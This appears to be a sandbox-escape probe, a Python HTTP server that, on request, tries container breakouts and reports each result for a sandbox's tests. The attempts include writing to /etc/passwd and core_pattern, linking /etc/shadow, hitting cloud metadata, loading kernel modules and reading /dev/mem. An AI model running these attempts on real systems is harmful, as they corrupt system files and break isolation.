# mypy: ignore-errors
# It does what an attacker would, who has no style.
# ruff: noqa: PTH101, PTH102, PTH115, PTH116, PTH118, PTH123, PTH208, PTH211, S103, S104, S108, SIM115
"""Handed in as server.py: tries every way out of its container, tells what it got (E01 to E26, G23 ff.)."""

import ctypes
import errno
import json
import mmap
import os
import platform
import resource
import shutil
import socket
import stat
import struct
import subprocess
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "pivot_root": 155,
        "init_module": 175,
        "kexec_load": 246,
        "add_key": 248,
        "request_key": 249,
        "keyctl": 250,
        "perf_event_open": 298,
        "name_to_handle_at": 303,
        "open_by_handle_at": 304,
        "setns": 308,
        "process_vm_readv": 310,
        "finit_module": 313,
        "bpf": 321,
        "userfaultfd": 323,
        "io_uring_setup": 425,
        "open_tree": 428,
        "move_mount": 429,
        "fsopen": 430,
        "ptrace": 101,
        "syslog": 103,
        "clone": 56,
        "pidfd_getfd": 438,
        "mount_setattr": 442,
        "swapon": 167,
        "reboot": 169,
        "clock_settime": 227,
        "quotactl": 179,
    },
    "aarch64": {
        "pivot_root": 41,
        "init_module": 105,
        "kexec_load": 104,
        "add_key": 217,
        "request_key": 218,
        "keyctl": 219,
        "perf_event_open": 241,
        "name_to_handle_at": 264,
        "open_by_handle_at": 265,
        "setns": 268,
        "process_vm_readv": 270,
        "finit_module": 273,
        "bpf": 280,
        "userfaultfd": 282,
        "io_uring_setup": 425,
        "open_tree": 428,
        "move_mount": 429,
        "fsopen": 430,
        "ptrace": 117,
        "syslog": 116,
        "clone": 220,
        "pidfd_getfd": 438,
        "mount_setattr": 442,
        "swapon": 224,
        "reboot": 142,
        "clock_settime": 112,
        "quotactl": 60,
    },
}[platform.machine()]
FOUND: dict[str, str] = {}
NAMESPACES = {
    "mount": 0x20000,
    "cgroup": 0x2000000,
    "uts": 0x4000000,
    "ipc": 0x8000000,
    "user": 0x10000000,
    "pid": 0x20000000,
    "net": 0x40000000,
}
PLAIN_FAMILIES = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
WRITABLE = ("/work", "/tmp", "/dev", "/proc")
KERNELS = {"overlay", "tmpfs", "proc", "sysfs", "devpts", "mqueue", "cgroup", "cgroup2"}
THE_ENGINES = {
    "/sbin/docker-init",
    "/usr/sbin/docker-init",
    "/etc/hostname",
    "/etc/hosts",
    "/etc/resolv.conf",
}
"""Single files that the engine lays over the image, read-only."""
NOT_THERE = (errno.ENOSYS, errno.EPERM, errno.EACCES, errno.EROFS)


def attempt(name: str) -> Callable[[Callable[[], object]], None]:
    """What it returns was obtained; None is nothing."""

    def run(deed: Callable[[], object]) -> None:
        try:
            got = deed()
        except OSError as error:
            FOUND[name] = f"refused: {errno.errorcode.get(error.errno, error.errno)}"
        else:
            FOUND[name] = "refused: nothing" if got is None else f"obtained: {got!r}"[:300]

    return run


def call(name: str, *arguments: object) -> str:
    """A raw system call. Only EPERM and its like keep it from us; a fault in our arguments does not."""
    ctypes.set_errno(0)
    result = libc.syscall(NUMBERS[name], *arguments)
    number = ctypes.get_errno()
    if result == -1 and number in NOT_THERE:
        raise OSError(number, name)
    return f"{result} ({errno.errorcode.get(number, 0)})"


def calls(id: str, *lines: tuple) -> None:
    for name, *arguments in lines:
        attempt(f"{id} {name}")(lambda name=name, arguments=arguments: call(name, *arguments))


def libc_call(name: str, *arguments: object) -> str:
    ctypes.set_errno(0)
    result = getattr(libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return f"{name} gave {result}"


def connects(*addresses: tuple[str, int]) -> object:
    open_ones = []
    for host, port in addresses:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family) as client:
            client.settimeout(1)
            number = client.connect_ex((host, port))
        if number not in (
            errno.ENETUNREACH,
            errno.ECONNREFUSED,
            errno.EADDRNOTAVAIL,
            errno.EHOSTUNREACH,
            errno.EINVAL,
        ):
            open_ones.append((host, port, errno.errorcode.get(number, number)))
    return open_ones or None


def readable(*paths: str) -> object:
    return [path for path in paths if os.access(path, os.F_OK)] or None


def written(*paths: str) -> object:
    done = []
    for path in paths:
        try:
            with open(path, "w") as file:
                file.write("1")
            done.append(path)
        except OSError:
            continue
    return done or None


def status() -> dict[str, str]:
    lines = Path("/proc/self/status").read_text().splitlines()
    return {name: value.strip() for name, _, value in (line.partition(":") for line in lines)}


def in_a_child(deed: Callable[[], object]) -> object:
    """For what may end the process. A signal is a refusal; an exit code of 9 says that it was done."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(9 if deed() else 1)
        except OSError:
            os._exit(1)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return "it was done" if code == 9 else None


def foreign_call(code: bytes) -> Callable[[], object]:
    """Runs machine code that returns a number; one of 0 or more is a success."""

    def run() -> object:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        return function() >= 0

    return run


def engines() -> None:
    attempt("E01 socket")(
        lambda: readable(
            "/var/run/docker.sock",
            "/run/docker.sock",
            "/run/containerd/containerd.sock",
            "/run/crio/crio.sock",
            "/run/podman/podman.sock",
            "/var/lib/docker",
            "/.dockerenv/docker.sock",
            "/run/touchstone",
        )
    )
    attempt("E01 port")(
        lambda: connects(
            *(
                (host, port)
                for host in ("127.0.0.1", "172.17.0.1", "192.168.65.7", "192.168.65.254")
                for port in (2375, 2376)
            )
        )
    )


def capabilities() -> None:
    told = status()
    attempt("E02 sets")(lambda: {k: v for k, v in told.items() if k.startswith("Cap") and int(v, 16)} or None)
    attempt("E02 groups")(
        lambda: None if os.getuid() and os.getgid() and len(os.getgroups()) <= 1 else os.getgroups()
    )
    attempt("E02 setuid")(lambda: os.setuid(0) or "root")
    attempt("E02 raised")(lambda: libc_call("prctl", 47, 2, 21, 0, 0))
    attempt("E02 chown")(lambda: os.chown("/etc/passwd", os.getuid(), -1) or "chown")
    attempt("E03 privileges")(lambda: None if told["NoNewPrivs"] == "1" else told["NoNewPrivs"])
    attempt("E03 files")(set_user_files)
    attempt("E03 own")(own_setuid)


def set_user_files() -> object:
    found = []
    for at, _, names in os.walk("/usr"):
        for name in names:
            path = os.path.join(at, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISREG(mode) and (
                mode & 0o6000 or (mode & 0o111 and "security.capability" in attributes(path))
            ):
                found.append(path)
    return found or None


def attributes(path: str) -> list[str]:
    try:
        return os.listxattr(path)
    except OSError:
        return []


def own_setuid() -> object:
    shutil.copy("/usr/bin/id", "/work/id")
    os.chmod("/work/id", 0o6755)
    return subprocess.run(["/work/id", "-u"], capture_output=True, check=False).stdout.decode()


def namespaces() -> None:
    for name, flag in NAMESPACES.items():
        attempt(f"E04 unshare {name}")(lambda flag=flag: in_a_child(lambda: libc.unshare(flag) == 0))
        attempt(f"E04 clone {name}")(lambda flag=flag: cloned(flag))
    attempt("E04 setns")(
        lambda: in_a_child(
            lambda: [
                call("setns", os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
                for name in ("mnt", "net", "user")
            ]
        )
    )


def cloned(flag: int) -> object:
    pid = libc.syscall(NUMBERS["clone"], flag | 17, None, None, None, None)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        return None
    os.waitpid(pid, 0)
    return "a child in a namespace of its own"


def mounts() -> None:
    attempt("E05 tmpfs")(lambda: libc_call("mount", b"none", b"/work", b"tmpfs", 0, None))
    attempt("E05 bind")(lambda: libc_call("mount", b"/proc", b"/tmp", None, 4096, None))
    attempt("E05 writable")(lambda: libc_call("mount", None, b"/", None, 32 | 4096, None))
    attempt("E05 umount")(lambda: libc_call("umount2", b"/proc/kcore", 2))
    attempt("E05 chroot")(lambda: libc_call("chroot", b"/work"))
    calls(
        "E05",
        ("fsopen", b"tmpfs", 0),
        ("open_tree", -100, b"/", 1),
        ("move_mount", -1, b"", -1, b"", 4),
        ("pivot_root", b"/work", b"/work"),
        ("mount_setattr", -100, b"/", 0, None, 0),
    )
    attempt("E06 kernel")(
        lambda: written(
            "/proc/sys/net/ipv4/ip_forward",
            "/proc/sys/kernel/core_pattern",
            "/proc/sysrq-trigger",
            "/sys/kernel/uevent_helper",
            "/proc/sys/fs/binfmt_misc/register",
            "/proc/sys/kernel/hostname",
            "/proc/sys/vm/drop_caches",
            "/sys/kernel/profiling",
            "/proc/sys/kernel/modprobe",
            "/proc/irq/0/smp_affinity",
        )
    )
    attempt("E06 blame")(lambda: lower_blame())
    attempt("E06 root")(
        lambda: written(
            "/etc/passwd",
            "/usr/bin/x",
            "/x",
            "/etc/ld.so.preload",
            "/run/x",
            "/var/x",
            "/var/tmp/x",
            "/dev/x",
        )
    )
    attempt("E07 files")(lambda: written(*cgroup_files()))
    attempt("E07 folder")(lambda: os.mkdir("/sys/fs/cgroup/mine") or "a control group")
    attempt("E07 mount")(lambda: libc_call("mount", b"none", b"/tmp", b"cgroup", 0, b"memory"))
    attempt("E07 mount 2")(lambda: libc_call("mount", b"none", b"/tmp", b"cgroup2", 0, None))


def lower_blame() -> object:
    Path("/proc/self/oom_score_adj").write_text("-500")
    return "a lower score"


def cgroup_files() -> list[str]:
    return [os.path.join(at, name) for at, _, names in os.walk("/sys/fs/cgroup") for name in names][:400]


def paths() -> None:
    root = os.stat("/")
    attempt("E08 roots")(
        lambda: (
            [pid for pid in os.listdir("/proc") if pid.isdigit() and other_root(f"/proc/{pid}/root", root)]
            or None
        )
    )
    attempt("E08 folders")(
        lambda: (
            [
                name
                for name in links()
                if name.startswith("/") and not name.startswith(("/work", "/dev", "/proc", "/usr"))
            ]
            or None
        )
    )
    attempt("E08 upwards")(
        lambda: None if os.path.samestat(os.stat("/proc/self/cwd/" + "../" * 30), root) else "above"
    )
    attempt("E25 writable")(lambda: [point for point, _ in mounts_of("rw") if is_others(point)] or None)
    attempt("E25 of the host")(
        lambda: (
            [point for point, kind in mounts_of("ro") if kind not in KERNELS and point not in THE_ENGINES]
            or None
        )
    )
    attempt("E25 link")(lambda: os.symlink("/etc/shadow", "/work/results.json"))
    attempt("E24 environment")(
        lambda: (
            sorted(
                set(os.environ)
                - {
                    "PATH",
                    "HOME",
                    "LANG",
                    "TZ",
                    "HOSTNAME",
                    "PORT",
                    "PWD",
                    "SHLVL",
                    "_",
                    "OLDPWD",
                    "LC_CTYPE",
                }
            )
            or None
        )
    )


def mounts_of(option: str) -> list[tuple[str, str]]:
    """Mount point and file system, if it is mounted so ('ro' or 'rw')."""
    lines = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    return [(words[4], words[words.index("-") + 1]) for words in lines if words[5].split(",")[0] == option]


def is_others(point: str) -> bool:
    return os.access(point, os.W_OK) and not point.startswith(WRITABLE)


def other_root(path: str, root: os.stat_result) -> bool:
    try:
        return not os.path.samestat(os.stat(path), root)
    except OSError:
        return False


def links() -> list[str]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            found.append(os.readlink(f"/proc/self/fd/{name}"))
        except OSError:
            continue
    return found


def processes() -> None:
    mine = os.getuid()
    attempt("E11 others")(
        lambda: (
            [
                pid
                for pid in os.listdir("/proc")
                if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid not in (mine, 0)
            ]
            or None
        )
    )
    attempt("E11 root's")(
        lambda: (
            [
                pid
                for pid in os.listdir("/proc")
                if pid.isdigit() and pid != "1" and not os.stat(f"/proc/{pid}").st_uid
            ]
            or None
        )
    )
    calls(
        "E11",
        ("ptrace", 16, 1, 0, 0),
        ("process_vm_readv", os.getppid(), None, 0, None, 0, 0),
        ("pidfd_getfd", 0, 0, 0),
    )
    calls("E12", ("io_uring_setup", 8, ctypes.create_string_buffer(200)))
    calls(
        "E15",
        ("bpf", 0, None, 0),
        ("perf_event_open", None, 0, -1, -1, 0),
        ("userfaultfd", 0),
        ("kexec_load", 0, 0, None, 0),
        ("init_module", None, 0, b""),
        ("finit_module", -1, b"", 0),
        ("syslog", 2, None, 0),
        ("add_key", b"user", b"a", b"b", 1, -3),
        ("keyctl", 0, -3, 1, 0, 0),
        ("request_key", b"user", b"a", None, 0),
        ("swapon", b"/x", 0),
        ("reboot", 1, 2, 3, None),
        ("clock_settime", 0, None),
        ("quotactl", 0, None, 0, None),
    )
    calls("E26", ("name_to_handle_at", -100, b"/", None, None, 0), ("open_by_handle_at", -100, None, 0))


def foreign() -> None:
    if platform.machine() != "x86_64":
        attempt("E14 none here")(lambda: None)
        return
    getpid_32 = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret
    getpid_x32 = b"\xb8\x27\x00\x00\x40\x0f\x05\xc3"  # mov eax, 0x40000027; syscall; ret
    attempt("E14 32 bits")(lambda: in_a_child(foreign_call(getpid_32)))
    attempt("E14 x32")(lambda: in_a_child(foreign_call(getpid_x32)))


def sockets() -> None:
    attempt("E13 families")(
        lambda: [family for family in range(1, 46) if family not in PLAIN_FAMILIES and opens(family)] or None
    )
    attempt("G26 packets")(lambda: opens(socket.AF_PACKET))
    attempt("E16 raw")(
        lambda: (
            [
                (family, protocol)
                for family in (socket.AF_INET, socket.AF_INET6)
                for protocol in (1, 6, 17, 58, 255)
                if opens(family, socket.SOCK_RAW, protocol)
            ]
            or None
        )
    )
    attempt("E16 address")(lambda: set_address())
    attempt("G25 names")(
        lambda: (
            [
                line.split()[-1]
                for line in Path("/proc/net/unix").read_text().splitlines()
                if line.split()[-1].startswith("@")
            ]
            or None
        )
    )
    attempt("G25 diagnosis")(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) and "SOCK_DIAG")
    attempt("G23 own port")(lambda: shared_ports())
    attempt("G31 listeners")(lambda: [port for port, uid in listeners() if uid != os.getuid()] or None)


def opens(family: int, kind: int = 0, protocol: int = 0) -> object:
    kinds = (
        [kind] if kind else [socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET]
    )
    for one in kinds:
        try:
            socket.socket(family, one, protocol).close()
        except OSError:
            continue
        return "a socket"
    return None


def set_address() -> object:
    request = b"lo".ljust(16, b"\0") + struct.pack("<HH4s8x", socket.AF_INET, 0, socket.inet_aton("10.0.0.1"))
    with socket.socket() as any_socket:
        return libc_call("ioctl", any_socket.fileno(), 0x8916, request)


def listeners() -> list[tuple[int, int]]:
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return [(int(fields[1].split(":")[1], 16), int(fields[7])) for fields in lines if fields[3] == "0A"]


def shared_ports() -> object:
    """Ports of others that can be bound a second time, by whatever option there is."""
    taken = []
    for port, uid in listeners():
        for option in (socket.SO_REUSEPORT, socket.SO_REUSEADDR):
            with socket.socket() as second:
                second.setsockopt(socket.SOL_SOCKET, option, 1)
                if uid != os.getuid() and not second.connect_ex(("0.0.0.0", 0)) and not bound(second, port):
                    taken.append(port)
    return taken or None


def bound(one: socket.socket, port: int) -> int:
    try:
        one.bind(("127.0.0.1", port))
        one.listen()
    except OSError as error:
        return error.errno or 1
    return 0


def networks() -> None:
    attempt("E17 metadata")(
        lambda: connects(("169.254.169.254", 80), ("fd00:ec2::254", 80), ("100.100.100.200", 80))
    )
    attempt("E18 servers")(
        lambda: (
            [line for line in lines_of("/etc/resolv.conf") if line.startswith(("nameserver", "search"))]
            or None
        )
    )
    attempt("E18 names")(
        lambda: (
            [
                name
                for name in ("metadata.google.internal", "example.org", "host.docker.internal")
                if resolves(name)
            ]
            or None
        )
    )
    attempt("E18 tunnel")(
        lambda: [host for host in ("8.8.8.8", "1.1.1.1", "127.0.0.11", "127.0.0.53") if told(host)] or None
    )
    attempt("E19 interfaces")(lambda: sorted(set(os.listdir("/sys/class/net")) - {"lo"}) or None)
    attempt("E19 routes")(lambda: lines_of("/proc/net/route")[1:] or None)
    attempt("E19 machines")(
        lambda: connects(
            ("172.17.0.1", 22),
            ("172.17.0.1", 80),
            ("172.17.0.2", 8000),
            ("10.0.0.1", 80),
            ("192.168.0.1", 80),
            ("fe80::1", 80),
            ("127.0.0.1", 22),
            ("127.0.0.1", 80),
            ("127.0.0.1", 5672),
            ("127.0.0.1", 6379),
        )
    )
    attempt("E23 devices")(
        lambda: (
            sorted(
                set(os.listdir("/dev"))
                - {
                    "null",
                    "zero",
                    "full",
                    "random",
                    "urandom",
                    "tty",
                    "ptmx",
                    "pts",
                    "shm",
                    "mqueue",
                    "fd",
                    "core",
                    "stdin",
                    "stdout",
                    "stderr",
                    "console",
                }
            )
            or None
        )
    )
    attempt("E23 mknod")(lambda: os.mknod("/work/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)) or "a device")
    attempt("E23 memory")(lambda: open("/dev/mem", "rb").read(1))


def lines_of(path: str) -> list[str]:
    try:
        return Path(path).read_text().splitlines()
    except OSError:
        return []


def resolves(name: str) -> bool:
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        return False
    return True


def told(host: str) -> bool:
    """Whether a datagram to this resolver is answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.3)
        try:
            client.connect((host, 53))
            client.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01")
            return bool(client.recv(512))
        except OSError:
            return False


def take_ports_of_services() -> None:
    """The control of the start order: where no service was there before, its port is anybody's."""
    taken = []
    for port in (5432, 6379, 5672):
        with socket.socket() as one:
            taken += [port] if not bound(one, port) else []
    FOUND["held: ports"] = str(taken)


def attack() -> dict[str, str]:
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    for tried in (
        engines,
        capabilities,
        paths,
        namespaces,
        mounts,
        processes,
        foreign,
        sockets,
        networks,
        take_ports_of_services,
    ):
        tried()
    return FOUND


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps(attack() if self.path == "/attack" else {}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
